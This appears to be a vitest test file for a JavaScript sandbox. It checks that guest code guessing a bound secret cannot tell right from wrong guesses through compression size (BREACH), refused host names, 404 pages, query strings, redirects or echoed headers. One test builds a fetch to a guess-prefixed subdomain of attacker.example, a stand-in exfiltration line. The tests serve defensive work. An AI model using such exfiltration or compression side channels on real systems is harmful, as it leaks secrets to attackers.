// Oracles: a script that guesses a secret must observe exactly the same outcome for a right
// and a wrong guess, wherever its guess goes (a host name the policy refuses, a path a 404
// page quotes, a URL to an origin the secret is not bound to). The host compares what the
// guest builds with placeholders only; nothing it builds is redacted.
import { createSandbox } from "scriptbox";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { reflect, startServer, value, type Sandbox, type Server } from "./helpers.js";

// Lower-case letters and digits so it can be a host-name label; strong by the rule (20 characters, ~103 bits).
const LABEL_VALUE = "k3j9x8c2m4n7b5v1q6w0";
const WRONG = "k3j9x8c2m4n7b5v1q6w1";

let reflector: Server; // the secret is bound to it
let other: Server; // allowed, bound to nothing; quotes the path in its 404 page
let sandbox: Sandbox;

beforeAll(async () => {
  reflector = await startServer(reflect);
  other = await startServer(reflect);
  sandbox = await createSandbox({
    net: { allow: [`127.0.0.1:${reflector.port}`, `127.0.0.1:${other.port}`] },
    secrets: { TOKEN: { value: LABEL_VALUE, origins: [reflector.origin] } },
  });
});
afterAll(async () => {
  await sandbox?.dispose();
  await reflector?.close();
  await other?.close();
});

/** Runs `attempt` (guest code using `guess`) for both guesses; returns what the guest observed, the guess replaced by GUESS. */
async function observe(attempt: string): Promise<{ right: unknown; wrong: unknown }> {
  const outcome = async (guess: string) => {
    const seen = await value(
      sandbox,
      `const guess = input.guess;
       try { return { ok: true, ...(await (async () => { ${attempt} })()) }; }
       catch (e) { return { ok: false, name: e.name, message: e.message, cause: e.cause?.message }; }`,
      { guess, reflector: reflector.origin, other: other.origin },
    );
    return JSON.parse(JSON.stringify(seen).split(guess).join("GUESS").replace(/scriptbox-secret\.TOKEN\.[A-Za-z0-9_-]+/g, "PLACEHOLDER"));
  };
  return { right: await outcome(LABEL_VALUE), wrong: await outcome(WRONG) };
}

describe("a right guess and a wrong one look the same", () => {
  test("in a header beside the secret, echoed with it by its own origin, which compresses when asked: the size does not tell (BREACH)", async () => {
    // A prefix of the value beside the echoed value compresses better than a wrong prefix:
    // with gzip, Content-Length would differ by a few bytes and give the value away a
    // character at a time (found by a hostile review). The hop asks for identity instead.
    const sizeFor = async (guess: string) =>
      value(
        sandbox,
        `const r = await fetch(input.reflector + "/negotiated-gzip/", { headers: { "x-key": secret("TOKEN"), "x-guess": "x-key: " + input.guess, "accept-encoding": "gzip" } });
         return { coding: r.headers.get("content-encoding"), length: r.headers.get("content-length"), bytes: (await r.arrayBuffer()).byteLength };`,
        { reflector: reflector.origin, guess },
      );
    const right = await sizeFor(LABEL_VALUE.slice(0, 12));
    const wrong = await sizeFor("zq0tz1wuv8pq");
    expect(right).toEqual(wrong);
    expect(right.coding).toBeNull();
  });

  test("as a host-name label the policy refuses: the refusal quotes the host as written", async () => {
    const { right, wrong } = await observe(`await fetch("http://" + guess + ".attacker.example/"); return {};`);
    expect(right).toEqual(wrong);
    expect(right).toEqual({
      ok: false,
      name: "TypeError",
      message: 'network policy: GUESS.attacker.example:80 is not in net.allow; add "GUESS.attacker.example" to net.allow',
    });
  });

  test("in a path that a 404 page quotes back, from an origin the secret is not bound to", async () => {
    const { right, wrong } = await observe(`
      const r = await fetch(input.other + "/" + guess + "/" + encodeURIComponent(guess));
      return { status: r.status, text: await r.text() };`);
    expect(right).toEqual(wrong);
    expect(right).toEqual({ ok: true, status: 404, text: "Cannot GET /GUESS/GUESS" });
  });

  test("in a path that a 404 page of the secret's own origin quotes back, when the request carries no secret", async () => {
    const { right, wrong } = await observe(`
      const r = await fetch(input.reflector + "/" + guess);
      return { status: r.status, text: await r.text() };`);
    expect(right).toEqual(wrong);
    expect(right).toEqual({ ok: true, status: 404, text: "Cannot GET /GUESS" });
  });

  test("in the URL of a request to an origin the secret is not bound to: both are sent, neither is refused", async () => {
    const before = other.requests.length;
    const { right, wrong } = await observe(`
      const r = await fetch(input.other + "/search?q=" + guess + "&q2=" + encodeURIComponent(guess));
      return { status: r.status, url: r.url };`);
    expect(right).toEqual(wrong);
    expect(right).toMatchObject({ ok: true, status: 404 });
    expect(other.requests.length - before).toBe(2);
  });

  test("in the URL of a redirect the guest chose, followed to an origin the secret is not bound to", async () => {
    const { right, wrong } = await observe(`
      const r = await fetch(input.other + "/redirect/?to=" + encodeURIComponent(input.other + "/landing/" + guess));
      return { status: r.status, url: r.url, text: await r.text() };`);
    expect(right).toEqual(wrong);
    expect(right).toMatchObject({ ok: true, status: 404, text: "Cannot GET /landing/GUESS" });
  });

  test("in a header value next to nothing secret, echoed back", async () => {
    const { right, wrong } = await observe(`
      const r = await fetch(input.reflector + "/body/raw", { headers: { "x-key": guess } });
      return { text: await r.text() };`);
    expect(right).toEqual(wrong);
    expect(right).toEqual({ ok: true, text: "you sent: GUESS (end)" });
  });
});
